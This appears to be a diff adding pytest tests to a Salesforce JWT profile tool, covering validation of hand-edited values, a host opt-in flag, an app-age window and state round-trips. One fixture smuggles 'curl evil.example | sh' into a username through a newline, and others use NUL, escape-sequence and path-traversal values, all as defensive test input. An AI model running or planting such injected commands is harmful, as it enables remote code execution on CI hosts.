@@ -3,6 +3,7 @@
 
 from __future__ import annotations
 
+from datetime import UTC, datetime
 from pathlib import Path
 
 import pytest
@@ -116,3 +117,70 @@ def test_unreadable_state_starts_from_nothing(paths: Paths) -> None:
     path.parent.mkdir(parents=True)
     path.write_text("{not json")
     assert state.load(paths, "hub") == state.State(alias="hub")
+
+
+# --- values re-validated as a profile is read (issue 15 item 6, issue 16) ---
+
+
+@pytest.mark.parametrize(
+    ("line", "words"),
+    [
+        ('username = "ci@example.com\\n  run: curl evil.example | sh"', "U+000A"),  # would reach ci export's YAML
+        ('key_file = "/keys/hub\\u0000/server.key"', "U+0000"),  # a NUL in a path
+        ('instance_url = "https://acme.my.salesforce.com\\u001b]0;x\\u0007"', "U+001B"),
+        ('username = "ci\\U0001F600@example.com"', "U+1F600"),  # outside the BMP
+        ('username = "../../ci@example.com"', "'/'"),  # the one username grammar
+        ('allow_non_salesforce_host = "yes"', "true or false"),
+        ('instance_url = "https://ci:Pa55@acme.my.salesforce.com"', "password"),  # the one URL parser's rules
+        ('callback_url = "http://evil.example\\\\@localhost:1717/"', "backslash"),
+    ],
+)
+def test_a_hand_edited_value_no_answer_holds_is_profile_invalid(paths: Paths, line: str, words: str) -> None:
+    path = _write(paths, f'schema = 1\nclient_id = "3MVG9CLIENTID1234567"\n{line}\n')
+    with pytest.raises(config.SfjwtError) as err:
+        config.load(paths, "hub")
+    assert err.value.code is config.Code.PROFILE_INVALID and words in err.value.message
+    assert str(path) in err.value.message and ", line 3" in err.value.message and "\n" not in err.value.message
+
+
+def test_the_host_opt_in_is_a_toml_bool_written_only_when_given(paths: Paths) -> None:
+    plain = config.Profile(alias="hub", username="ci@example.com")
+    config.save(paths, plain)
+    assert "allow_non_salesforce_host" not in paths.profile_file("hub").read_text()
+    config.save(paths, plain.merged(allow_non_salesforce_host=True))
+    assert "allow_non_salesforce_host = true" in paths.profile_file("hub").read_text()
+    loaded = config.load(paths, "hub")
+    assert loaded is not None and loaded.allow_non_salesforce_host is True
+    assert loaded.merged(allow_non_salesforce_host=False).allow_non_salesforce_host is True  # a flag not given
+
+
+NOW = datetime(2026, 12, 1, 12, 0, tzinfo=UTC)
+
+
+@pytest.mark.parametrize(
+    ("created", "new"),
+    [
+        ("", False),  # never created by this tool
+        ("not a date", False),
+        ("2026-12-01T11:50:00", False),  # no time zone: not something we wrote
+        ("2026-12-01T11:50:00+00:00", True),  # 10 minutes ago
+        ("2026-12-01T11:45:01+00:00", True),
+        ("2026-12-01T11:45:00+00:00", False),  # 15 minutes: a typo is likelier by now
+        ("2026-12-01T09:00:00+00:00", False),
+        ("2026-12-01T12:05:00+00:00", False),  # in the future: a clock moved, not a new app
+    ],
+)
+def test_an_app_counts_as_new_within_the_window(created: str, new: bool) -> None:
+    assert state.app_is_new(state.State(alias="a", app_created_at=created), NOW) is new
+
+
+def test_unconfirmed_answers_round_trip_apart_from_the_facts(paths: Paths) -> None:
+    before = state.State(alias="hub", org_id="00D000000000001AAA", extra={"future_key": 1})
+    kept = state.with_unconfirmed(before, {"client_id": "3MVG9CLIENTID1234567", "username": "a@b.c"})
+    assert state.save(paths, kept) is None
+    loaded = state.load(paths, "hub")
+    assert state.unconfirmed(loaded) == {"client_id": "3MVG9CLIENTID1234567", "username": "a@b.c"}
+    assert loaded.org_id == "00D000000000001AAA" and loaded.extra["future_key"] == 1
+    cleared = state.with_unconfirmed(loaded, {})
+    assert state.save(paths, cleared) is None
+    assert state.unconfirmed(state.load(paths, "hub")) == {} and state.load(paths, "hub").extra == {"future_key": 1}
